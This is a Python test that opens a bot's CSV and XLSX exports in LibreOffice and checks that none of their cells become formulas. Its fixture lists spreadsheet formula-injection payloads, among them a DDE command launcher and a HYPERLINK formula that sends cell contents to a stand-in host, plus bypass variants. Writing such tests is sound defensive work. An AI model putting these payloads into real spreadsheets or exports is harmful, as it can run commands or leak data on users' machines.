"""LibreOffice opens the files, and nothing in them becomes a formula."""

import shutil
import subprocess
import xml.etree.ElementTree as ET  # reads only what LibreOffice has just written
from pathlib import Path
from typing import Any

from bot.export.csv_files import write_csv
from bot.export.destination import whole_files
from bot.export.table import Column, Origin, Records, Type
from bot.export.xlsx_file import write_xlsx
from tests.export.extracts import MadeUp

OPENED = ("words.csv", "needling-diary.xlsx", "unguarded.csv")
PATIENCE = 120  # seconds of real time for one start on a busy machine
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
INJECTED = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"click")',
    '=WEBSERVICE("http://192.0.2.1")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "'=1+1",
    '";=1+1;"',
    "a\n=1+1",
    "{=1+1}",
    "=1+1;=2+2",
    "of:=1+1",
    "http://192.0.2.1",
)


def injected() -> Records:
    """Make a table of text that a spreadsheet might run."""
    column: Column[Any] = Column(
        name="words", type=Type.TEXT, about="", origin=Origin.BOT, value=lambda record: None
    )
    return Records(name="words", columns=(column,), rows=[(text,) for text in INJECTED])


def formulas(file: Path) -> list[str]:
    """List the formulas of a document that LibreOffice has written."""
    cells = ET.parse(file).iter(f"{TABLE}table-cell")  # noqa: S314  # written here, just now
    return [cell.attrib[f"{TABLE}formula"] for cell in cells if f"{TABLE}formula" in cell.attrib]


def filled(file: Path) -> int:
    """Count the cells of a document that hold something."""
    return sum(len(cell) > 0 for cell in ET.parse(file).iter(f"{TABLE}table-cell"))  # noqa: S314


def test_no_cell_of_either_file_is_a_formula(tmp_path: Path) -> None:
    assert shutil.which("soffice"), "LibreOffice is missing; `make .venv/.viewers` installs it."
    with whole_files(tmp_path) as folder:
        write_csv(MadeUp([injected()]), folder)
        write_xlsx(MadeUp([injected()]), folder)
    # Beside them a file that nobody guarded: this test can see a formula.
    (tmp_path / "unguarded.csv").write_text("words\n=1+1\n", "utf-8")

    home = f"-env:UserInstallation=file://{tmp_path / 'profile'}"
    opened = [str(tmp_path / name) for name in OPENED]
    to = ("--convert-to", "fods", "--outdir", str(tmp_path))
    subprocess.run(
        ["soffice", home, "--headless", *to, *opened],
        check=True,
        capture_output=True,
        timeout=PATIENCE,
    )

    assert formulas(tmp_path / "unguarded.fods") != []
    for name in ("words.fods", "needling-diary.fods"):
        assert formulas(tmp_path / name) == []
        assert filled(tmp_path / name) >= len(INJECTED) + 1
